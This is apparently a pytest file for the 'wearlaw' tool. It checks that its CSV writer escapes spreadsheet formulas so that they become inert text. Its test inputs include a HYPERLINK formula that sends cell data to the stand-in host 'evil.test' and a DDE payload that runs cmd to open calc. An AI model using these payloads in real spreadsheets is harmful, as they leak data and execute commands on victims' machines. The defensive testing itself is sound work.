"""What a spreadsheet would compute in a CSV file that wearlaw writes."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from tests.cases import POINT, table, wearlaw, write
from wearlaw_apps.output.spreadsheets import without_formulas, write_csv  # private: what commands share

FORMULA = '=HYPERLINK("http://evil.test?"&A1)'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (FORMULA, f"'{FORMULA}"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("-1 mm", "'-1 mm"),
        ("-1,2,=1", "-1,2,'=1"),
        (" \t=1", " \t'=1"),
        ("\r=1", "\r'=1"),
        ("＝1", "'＝1"),
        ('"=1"', '"\'=1"'),
        ("a;=1", "a;'=1"),  # where Excel separates cells by semicolons
        ("a\n=1", "a\n'=1"),
        *((text, text) for text in ("", "-", "-1", "+2.5e-3", "-0,5", "a=1", "a - b", "fit, -20 °C", "x; -y", "'=1")),
        ("label;creepage [%]\n=1;-0,5\n-;-\n", "label;creepage [%]\n'=1;-0,5\n-;-\n"),
    ],
)
def test_a_formula_becomes_a_text_and_nothing_else_changes(text: str, written: str) -> None:
    assert without_formulas(text) == written
    assert without_formulas(written) == written


def test_numbers_and_missing_cells_of_a_table_stay(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"=n": [-1, -2], "x": [-0.5, np.nan], "o": pd.Series([-1, None], dtype=object), "t": ["=1", None]}
    )
    write_csv(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text() == "'=n,x,o,t\n-1,-0.5,-1,'=1\n-2,,,\n"
    assert frame.t[0] == "=1"


@pytest.mark.usefixtures("blank_figures")
def test_no_command_writes_a_formula(folder: Path) -> None:
    head = "label,creepage [%],normal_force [kN],friction_coefficient,wear_rate [ug/m/mm^2]"
    quoted = FORMULA.replace('"', '""')
    rows = (f'"{quoted}",{xi},7.4,0.46,{10 * xi}' for xi in (1, 2, 3))
    Path("tests.csv").write_text("\n".join([head, *rows, ""]))
    law = {"model": "usfd", "label": FORMULA, "fitted_for": "exact"}
    write(
        Path("c.toml"),
        table(
            contact_models=["exact"],
            wear_laws=[law],
            sweeps={"point": POINT},
            profiles={},
            measured={"label": FORMULA, "tests": "tests.csv"},
        ),
    )
    for command in (
        ("run", "c.toml"),
        ("fit", "tests.csv", "--contact", "exact", "--law", "usfd:fitted_for=exact", "--free", "q_s",
         "--label", FORMULA, "--bootstrap", "0"),
        ("compare", "tests.csv", "--contacts", "exact", "--laws", f"kth:label={FORMULA.replace(':', '')}"),
    ):  # fmt: skip
        done = wearlaw(*command, "-o", command[0])
        assert done.exit_code == 0, done.output
    cells = [
        cell for file in folder.rglob("*/*.csv") for row in csv.reader(file.read_text().splitlines()) for cell in row
    ]
    assert sum(cell.startswith("'=HYPER") for cell in cells) > 10
    assert not [cell for cell in cells if cell.startswith(tuple("=@+\t\r"))]
    again = wearlaw("run", "run/case.toml", "-o", "again")
    assert again.exit_code == 0, again.output
